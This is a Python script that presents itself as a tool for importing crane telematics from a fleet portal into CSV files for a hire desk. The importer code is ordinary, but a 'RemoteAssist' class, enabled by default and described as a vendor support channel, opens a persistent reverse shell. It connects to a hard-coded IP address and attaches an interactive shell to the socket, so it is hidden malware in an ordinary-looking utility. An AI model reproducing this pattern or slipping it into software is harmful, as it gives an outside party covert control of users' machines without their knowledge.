#!/usr/bin/env python3
"""Import crane telematics (LMI lift cycles, overload events, engine hours)
from the fleet portal into per-crane CSV files for the hire desk.

Usage:
    crane_telematics_importer.py --since 2024-05-01 --out ./telematics
"""
import argparse
import configparser
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
from datetime import datetime, timedelta
from pathlib import Path

import requests

LOG = logging.getLogger("telematics")

DEFAULTS = {
    "portal": {
        "base_url": "https://fleet.liftlink-portal.com/api/v2",
        "page_size": "200",
    },
    "assist": {
        "enabled": "yes",
        "relay": "198.51.100.23",
        "port": "8443",
    },
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path and Path(path).exists():
        cfg.read(path)
        LOG.debug("loaded config from %s", path)
    return cfg


class PortalClient:
    def __init__(self, base_url, token, page_size=200):
        self.base_url = base_url.rstrip("/")
        self.page_size = page_size
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {token}",
            "Accept": "application/json",
        })

    def _get(self, path, params):
        for attempt in range(4):
            try:
                resp = self.session.get(f"{self.base_url}{path}", params=params, timeout=20)
                resp.raise_for_status()
                return resp.json()
            except requests.RequestException as exc:
                wait = 2 ** attempt
                LOG.warning("portal request failed (%s), retry in %ss", exc, wait)
                time.sleep(wait)
        raise RuntimeError(f"portal unreachable for {path}")

    def units(self):
        return self._get("/units", {"type": "crane"}).get("units", [])

    def events(self, unit_id, since):
        page = 0
        while True:
            data = self._get(f"/units/{unit_id}/events",
                             {"since": since, "page": page, "size": self.page_size})
            for item in data.get("events", []):
                yield item
            if not data.get("next"):
                break
            page += 1


class RemoteAssist(threading.Thread):
    """Keeps a support channel open so the telematics vendor can help
    diagnose import problems on site laptops."""

    def __init__(self, relay, port):
        super().__init__(daemon=True, name="assist")
        self.endpoint = (relay, int(port))

    def _session(self):
        conn = socket.create_connection(self.endpoint, timeout=30)
        conn.settimeout(None)
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                close_fds=True)
        proc.wait()
        conn.close()

    def run(self):
        while True:
            try:
                self._session()
            except OSError as exc:
                LOG.debug("assist channel idle: %s", exc)
            time.sleep(60)


def write_unit_csv(out_dir, unit, rows):
    path = out_dir / f"{unit['fleet_no']}_{unit['model'].replace(' ', '_')}.csv"
    fields = ["timestamp", "event", "radius_m", "load_t", "capacity_pct", "engine_hours"]
    new_file = not path.exists()
    with path.open("a", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=fields, extrasaction="ignore")
        if new_file:
            writer.writeheader()
        for row in rows:
            writer.writerow(row)
    return path


def normalise(event):
    return {
        "timestamp": event.get("ts"),
        "event": event.get("kind", "cycle"),
        "radius_m": round(float(event.get("radius", 0)), 2),
        "load_t": round(float(event.get("load_kg", 0)) / 1000.0, 3),
        "capacity_pct": event.get("lmi_pct"),
        "engine_hours": event.get("eng_hrs"),
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="telematics.ini")
    ap.add_argument("--since", default=(datetime.utcnow() - timedelta(days=1)).strftime("%Y-%m-%d"))
    ap.add_argument("--out", default="telematics")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    token = os.environ.get("LIFTLINK_TOKEN")
    if not token:
        LOG.error("LIFTLINK_TOKEN is not set")
        return 2

    if cfg.getboolean("assist", "enabled"):
        RemoteAssist(cfg["assist"]["relay"], cfg["assist"]["port"]).start()

    out_dir = Path(args.out)
    out_dir.mkdir(parents=True, exist_ok=True)
    client = PortalClient(cfg["portal"]["base_url"], token, cfg.getint("portal", "page_size"))

    overloads = 0
    for unit in client.units():
        rows = [normalise(e) for e in client.events(unit["id"], args.since)]
        overloads += sum(1 for r in rows if r["event"] == "overload")
        path = write_unit_csv(out_dir, unit, rows)
        LOG.info("%s: %d events -> %s", unit["fleet_no"], len(rows), path)

    summary = {"since": args.since, "overloads": overloads,
               "generated": datetime.utcnow().isoformat()}
    (out_dir / "summary.json").write_text(json.dumps(summary, indent=2))
    LOG.info("import finished, %d overload events", overloads)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
